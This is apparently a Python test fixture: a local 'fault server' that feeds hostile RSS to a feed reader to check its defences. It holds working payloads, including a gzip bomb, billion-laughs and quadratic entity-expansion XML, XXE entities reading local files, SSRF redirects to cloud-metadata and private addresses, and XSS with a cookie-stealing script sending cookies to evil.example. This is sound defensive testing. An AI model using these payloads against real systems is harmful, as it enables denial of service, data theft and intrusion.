"""A hostile HTTP server for the tests: one path per fault a website can throw at feedwatch.

    server = FaultServer(canary).start()   # 127.0.0.1, ephemeral port; canary on 127.0.0.2
    server.url("/slow-drip.rss")

Built on tests/httpserver.py's TestServer. `FAULTS` names every path with the behaviour
expected of feedwatch; `GOOD` paths serve ordinary feeds, so a run can check that the other
sources go on. The canary (a second TestServer on 127.0.0.2) is where external entities and
redirects to private addresses point: any hit there is an address-policy or XXE failure.
Everything binds to loopback addresses; nothing leaves the machine.
"""

from __future__ import annotations

import threading
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime

from httpserver import Request, TestServer, _RequestHandler, _Server

RSS_TYPE = "application/rss+xml; charset=utf-8"
FAR_FUTURE = datetime(2099, 1, 1, 12, 0, tzinfo=UTC)
BOMB_INFLATED = 256 * 1024 * 1024  # bytes the gzip bomb inflates to
SECRET = "GEHEIM-7f3a9c"  # a marker that must never reach the store (file:// entity target)


def _date(days_ago: int) -> str:
    return format_datetime(datetime.now(UTC) - timedelta(days=days_ago), usegmt=True)


def rss_item(
    title: str,
    link: str,
    guid: str | None = None,
    *,
    summary: str = "Een gewoon bericht over opvang en integratie.",
    date: str | None = "now",
) -> str:
    """One <item>; `title`, `link`, `summary` go in as given (already escaped XML text)."""
    parts = [f"<title>{title}</title>", f"<link>{link}</link>"]
    if guid is not None:
        parts.append(f"<guid isPermaLink='false'>{guid}</guid>")
    parts.append(f"<description>{summary}</description>")
    if date == "now":
        date = _date(1)
    if date is not None:
        parts.append(f"<pubDate>{date}</pubDate>")
    return "<item>" + "".join(parts) + "</item>"


def rss(
    items: str, *, prolog: str = "<?xml version='1.0' encoding='utf-8'?>", doctype: str = ""
) -> bytes:
    return (
        f"{prolog}{doctype}<rss version='2.0'><channel><title>Testbron</title>"
        f"<link>https://bron.example.nl/</link>{items}</channel></rss>"
    ).encode()


def good_feed(key: str, n: int = 3) -> bytes:
    """An ordinary feed of `n` items, each with a guid, a link and a date."""
    return rss(
        "".join(
            rss_item(
                f"{key}: gemeente zoekt nieuwe opvanglocatie {i}",
                f"https://bron.example.nl/{key}/{i}",
                f"{key}-{i}",
                date=_date(i + 1),
            )
            for i in range(n)
        )
    )


_bomb: bytes | None = None
_bomb_lock = threading.Lock()


def gzip_bomb() -> bytes:
    """A gzip body of about 256 KB inflating to BOMB_INFLATED zero bytes (made once)."""
    global _bomb
    with _bomb_lock:
        if _bomb is None:
            comp = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
            block = b"\0" * (1024 * 1024)
            parts = [comp.compress(b"<?xml version='1.0'?><rss><channel><title>")]
            for _ in range(BOMB_INFLATED // len(block)):
                parts.append(comp.compress(block))
            parts.append(comp.flush())
            _bomb = b"".join(parts)
        return _bomb


class _BigBacklogServer(_Server):
    request_queue_size = 256

    def handle_error(self, request: object, client_address: object) -> None:
        pass  # clients hanging up on a bomb or a drip is the point; keep stderr quiet


@dataclass(frozen=True)
class Fault:
    """One hostile path and what feedwatch must make of it.

    `error_kind`: the fetch-log error kind expected (None: the fetch succeeds, possibly with
    fewer items). `words`: text the stored error must contain (lower-case match).
    """

    name: str
    path: str
    error_kind: str | None
    words: str = ""
    note: str = ""


FAULTS: tuple[Fault, ...] = (
    Fault("slow-drip", "/slow-drip.rss", "timeout", "deadline", "1 byte/s, Content-Length set"),
    Fault("endless", "/endless.rss", "too-large", "over", "no Content-Length, never ends"),
    Fault("gzip-bomb", "/gzip-bomb.rss", "too-large", "decompressed", "256 KB -> 256 MiB"),
    Fault("billion-laughs", "/billion-laughs.rss", None, "", "nested entities, 10^9 'lol'"),
    Fault("quadratic", "/quadratic.rss", None, "", "64 KiB entity x 20000 references"),
    Fault("xxe-file", "/xxe-file.rss", None, "", "external entity file://"),
    Fault("xxe-http", "/xxe-http.rss", None, "", "external entity + DTD http:// to canary"),
    Fault("redirect-loop", "/loop-a.rss", "redirects", "redirect loop", "a -> b -> a"),
    Fault("redirect-metadata", "/to-metadata.rss", "refused-address", "link-local", ""),
    Fault("redirect-loopback", "/to-loopback.rss", "refused-address", "loopback", "canary"),
    Fault("redirect-private", "/to-private.rss", "refused-address", "private", "10.0.0.1"),
    Fault(
        "redirect-decimal", "/to-decimal.rss", "refused-address", "", "2852039166 = 169.254.169.254"
    ),
    Fault("too-many-429", "/429.rss", "http", "retry after 3600", "Retry-After: 3600"),
    Fault("http-500", "/500.rss", "http", "500", "HTML error page"),
    Fault("http-503", "/503.rss", "http", "503", "Retry-After as HTTP-date"),
    Fault("gone-410", "/410.rss", "http", "410", "disables the source"),
    Fault("moved-301", "/301.rss", None, "", "permanent redirect to a good feed"),
    Fault("wrong-charset", "/wrong-charset.rss", None, "", "windows-1252 declared utf-8"),
    Fault("html-as-feed", "/html-as-feed.rss", "extract", "html page", "a web page"),
    Fault("truncated", "/truncated.rss", None, "", "cut off in the middle of an item"),
    Fault("empty-200", "/empty.rss", "extract", "empty", "200 with no body"),
    Fault("duplicate-guids", "/duplicate-guids.rss", None, "", "one guid, three items"),
    Fault("changing-guids", "/changing-guids.rss", None, "", "new guid per request, same URL"),
    Fault("no-dates", "/no-dates.rss", None, "", "items without any date"),
    Fault("future-dates", "/future-dates.rss", None, "", "2099 and 9999-12-31"),
    Fault("markup-titles", "/markup-titles.rss", None, "", "<b>, <img onerror>, entities"),
    Fault("script", "/script.rss", None, "", "<script> in title and description"),
    Fault(
        "javascript-links", "/javascript-links.rss", None, "", "javascript:, data:, JaVaScRiPt&#58;"
    ),
    Fault("crlf-titles", "/crlf-titles.rss", None, "", "CR/LF and header lines in titles"),
    # found by fuzz/run.py: feedparser raised instead of reporting a broken feed
    Fault("surrogate-charref", "/surrogate.rss", "extract", "not a valid feed", "&#xD800;"),
    Fault("encoding-name", "/encoding-name.rss", "extract", "not a valid feed", "non-ASCII name"),
)
FAULT_BY_NAME = {f.name: f for f in FAULTS}
GOOD = tuple(f"/good-{i}.rss" for i in range(4))


class FaultServer(TestServer):
    """A TestServer with every fault of FAULTS installed (and GOOD feeds)."""

    __test__ = False

    def __init__(
        self,
        canary: TestServer,
        host: str = "127.0.0.1",
        *,
        drip_interval: float = 1.0,
        secret_file: str = "/etc/hostname",
    ):
        super().__init__(host)
        self.canary = canary
        self.secret_file = secret_file
        self.drip_interval = drip_interval
        self._changing = 0
        self._lock2 = threading.Lock()

    def start(self) -> FaultServer:
        if self._httpd is None:
            # Like TestServer.start(), with a listen backlog that takes a whole run's
            # connections at once (the default of 5 makes the kernel drop SYNs: 1 s stalls).
            gzip_bomb()  # made before the first request asks for it
            httpd = _BigBacklogServer((self.host, 0), _RequestHandler)
            httpd.owner = self
            self._httpd = httpd
            self._thread = threading.Thread(
                target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
            )
            self._thread.start()
        self.install()
        return self

    def reset(self) -> None:
        super().reset()
        if self._httpd is not None:
            self.install()

    # -- the faults ------------------------------------------------------------------------
    def install(self) -> None:
        canary = self.canary.url("/xxe")
        r = self.route
        for i, path in enumerate(GOOD):
            r(path, good_feed(f"good{i}"))
        body = good_feed("drip", 2)
        r(
            "/slow-drip.rss",
            handler=lambda q: q.drip(body, self.drip_interval, {"Content-Type": RSS_TYPE}),
        )
        r(
            "/endless.rss",
            handler=lambda q: q.endless(b"<item>" * 10000, {"Content-Type": RSS_TYPE}),
        )
        r(
            "/gzip-bomb.rss",
            handler=lambda q: q.respond(
                200, gzip_bomb(), {"Content-Type": RSS_TYPE, "Content-Encoding": "gzip"}
            ),
        )
        laughs = "<!ENTITY lol0 'lol'>" + "".join(
            f"<!ENTITY lol{i} '{f'&lol{i - 1};' * 10}'>" for i in range(1, 10)
        )
        r(
            "/billion-laughs.rss",
            rss(
                rss_item("&lol9;", "https://bron.example.nl/lol", "lol"),
                doctype=f"<!DOCTYPE rss [{laughs}]>",
            ),
            content_type=RSS_TYPE,
        )
        big = "a" * 65536
        r(
            "/quadratic.rss",
            rss(
                rss_item("Kop", "https://bron.example.nl/kw", "kw", summary="&a;" * 20000),
                doctype=f"<!DOCTYPE rss [<!ENTITY a '{big}'>]>",
            ),
            content_type=RSS_TYPE,
        )
        r(
            "/xxe-file.rss",
            rss(
                rss_item(
                    "Lek &xxe; einde", "https://bron.example.nl/xxe", "xxe-f", summary="&xxe;"
                ),
                doctype=f"<!DOCTYPE rss [<!ENTITY xxe SYSTEM 'file://{self.secret_file}'>]>",
            ),
            content_type=RSS_TYPE,
        )
        r(
            "/xxe-http.rss",
            rss(
                rss_item(
                    "Lek &xxe; einde", "https://bron.example.nl/xxe2", "xxe-h", summary="&xxe;"
                ),
                doctype=(
                    f"<!DOCTYPE rss SYSTEM '{canary}/dtd' [<!ENTITY xxe SYSTEM '{canary}/entity'>"
                    f"<!ENTITY % pe SYSTEM '{canary}/param'> %pe;]>"
                ),
            ),
            content_type=RSS_TYPE,
        )
        r(
            "/xxe-dtd-only.rss",
            rss(
                rss_item("Kop", "https://bron.example.nl/d", "d"),
                doctype=f"<!DOCTYPE rss SYSTEM '{canary}/dtd-only'>",
            ),
        )
        r("/loop-a.rss", handler=lambda q: q.redirect("/loop-b.rss", 302))
        r("/loop-b.rss", handler=lambda q: q.redirect("/loop-a.rss", 301))
        r(
            "/to-metadata.rss",
            handler=lambda q: q.redirect("http://169.254.169.254/latest/meta-data/", 302),
        )
        r("/to-loopback.rss", handler=lambda q: q.redirect(self.canary.url("/secret"), 302))
        r("/to-private.rss", handler=lambda q: q.redirect("http://10.0.0.1/admin", 307))
        r("/to-decimal.rss", handler=lambda q: q.redirect("http://2852039166/latest/", 302))
        r("/429.rss", status=429, body=b"slow down", headers={"Retry-After": "3600"})
        r(
            "/500.rss",
            status=500,
            body=b"<html><body>Interne fout</body></html>",
            content_type="text/html",
        )
        later = format_datetime(datetime.now(UTC) + timedelta(hours=2), usegmt=True)
        r("/503.rss", status=503, body=b"onderhoud", headers={"Retry-After": later})
        r("/410.rss", status=410, body=b"weg")
        r("/301.rss", handler=lambda q: q.redirect("/moved-target.rss", 301))
        r("/moved-target.rss", good_feed("moved", 2))
        cp = (
            "<?xml version='1.0' encoding='utf-8'?><rss version='2.0'><channel><title>t</title>"
            + rss_item(
                "Coëfficiënt van de café-ruïne",
                "https://bron.example.nl/cafe",
                "cafe",
                summary="Ingeëxporteerde ideeën over één reünie",
            )
            + "</channel></rss>"
        ).encode("windows-1252")
        r("/wrong-charset.rss", cp, content_type=RSS_TYPE)
        r(
            "/html-as-feed.rss",
            b"<!DOCTYPE html><html><head><title>Welkom</title></head><body><h1>Nieuws</h1>"
            b"<a href='/x'>lees meer</a></body></html>",
            content_type=RSS_TYPE,
        )
        whole = rss(
            rss_item("Eerste heel bericht", "https://bron.example.nl/t1", "t1")
            + rss_item("Tweede heel bericht", "https://bron.example.nl/t2", "t2")
            + rss_item("Derde bericht wordt afgebroken", "https://bron.example.nl/t3", "t3")
        )
        cut = whole.index(b"wordt afgebroken") + len(b"wordt af")
        r("/truncated.rss", whole[:cut], content_type=RSS_TYPE)
        r("/empty.rss", b"", content_type=RSS_TYPE)
        r(
            "/duplicate-guids.rss",
            rss(
                "".join(
                    rss_item(f"Dubbel bericht {i}", f"https://bron.example.nl/dup/{i}", "same-guid")
                    for i in range(3)
                )
            ),
        )
        r("/changing-guids.rss", handler=self._changing_guids)
        r(
            "/no-dates.rss",
            rss(
                "".join(
                    rss_item(
                        f"Bericht zonder datum {i}",
                        f"https://bron.example.nl/nd/{i}",
                        f"nd{i}",
                        date=None,
                    )
                    for i in range(2)
                )
            ),
        )
        r(
            "/future-dates.rss",
            rss(
                rss_item(
                    "Uit de toekomst",
                    "https://bron.example.nl/fut/1",
                    "fut1",
                    date=format_datetime(FAR_FUTURE, usegmt=True),
                )
                + rss_item(
                    "Einde der tijden",
                    "https://bron.example.nl/fut/2",
                    "fut2",
                    date="Fri, 31 Dec 9999 23:59:59 +0000",
                )
                + rss_item(
                    "Maand dertien",
                    "https://bron.example.nl/fut/3",
                    "fut3",
                    date="2024-13-45T99:99:99Z",
                )
                + rss_item(
                    "Jaar 2400",
                    "https://bron.example.nl/fut/4",
                    "fut4",
                    date="Sat, 01 Jan 0001 00:00:00 +2400",
                )
            ),
        )
        r(
            "/markup-titles.rss",
            rss(
                rss_item(
                    "&lt;b&gt;Vet&lt;/b&gt; nieuws &lt;img src=x onerror=alert(1)&gt;",
                    "https://bron.example.nl/m/1",
                    "m1",
                )
                + rss_item(
                    "&amp;lt;i&amp;gt;dubbel&amp;lt;/i&amp;gt; geëscaped",
                    "https://bron.example.nl/m/2",
                    "m2",
                )
                + rss_item(
                    "<![CDATA[<a href='javascript:alert(2)'>Klik</a> hier]]>",
                    "https://bron.example.nl/m/3",
                    "m3",
                )
            ),
        )
        r(
            "/script.rss",
            rss(
                rss_item(
                    "&lt;script&gt;alert('kop')&lt;/script&gt;Raad besluit over opvang",
                    "https://bron.example.nl/s/1",
                    "s1",
                    summary="&lt;p&gt;Tekst&lt;/p&gt;&lt;script&gt;document.location='http://evil.example/'+document.cookie&lt;/script&gt;&lt;style&gt;body{display:none}&lt;/style&gt;",
                )
            ),
        )
        r(
            "/javascript-links.rss",
            rss(
                rss_item("Link een", "javascript:alert(1)", "j1")
                + rss_item("Link twee", "JAVASCRIPT:alert(2)", "j2")
                + rss_item(
                    "Link drie", "data:text/html;base64,PHNjcmlwdD5hbGVydCgzKTwvc2NyaXB0Pg==", "j3"
                )
                + rss_item("Link vier", "JaVaScRiPt&amp;#58;alert(4)", "j4")
                + rss_item("Link vijf", " \tjavascript:alert(5)", "j5")
                + rss_item("Link zes", "vbscript:msgbox(6)", "j6")
            ),
        )
        r(
            "/crlf-titles.rss",
            rss(
                rss_item(
                    "Onderwerp&#13;&#10;Bcc: slachtoffer@example.org",
                    "https://bron.example.nl/c/1",
                    "c1",
                )
                + rss_item(
                    "Regel een\r\nX-Injected: ja\nregel twee", "https://bron.example.nl/c/2", "c2"
                )
                + rss_item("Tab\tnul&#x85;eind\u2028lijn", "https://bron.example.nl/c/3", "c3")
            ),
        )

        r(
            "/surrogate.rss",
            rss(rss_item("Kop &#xD800; &amp", "https://bron.example.nl/sur", "sur")),
            content_type=RSS_TYPE,
        )
        r(
            "/encoding-name.rss",
            b"<?xml version='1.0' encoding='ut\xf5f-8'?>"
            + rss(rss_item("Kop", "https://bron.example.nl/enc", "enc"), prolog=""),
            content_type=RSS_TYPE,
        )

    def _changing_guids(self, q: Request) -> None:
        with self._lock2:
            self._changing += 1
            n = self._changing
        body = rss(
            rss_item("Zelfde bericht, nieuwe guid", "https://bron.example.nl/cg/1", f"guid-{n}")
        )
        q.respond(200, body, {"Content-Type": RSS_TYPE})

    def url_for(self, fault: str | Fault) -> str:
        f = FAULT_BY_NAME[fault] if isinstance(fault, str) else fault
        return self.url(f.path)


Setup = Callable[[FaultServer], None]

__all__ = [
    "FAULTS",
    "FAULT_BY_NAME",
    "FAR_FUTURE",
    "GOOD",
    "SECRET",
    "Fault",
    "FaultServer",
    "good_feed",
    "gzip_bomb",
    "rss",
    "rss_item",
]
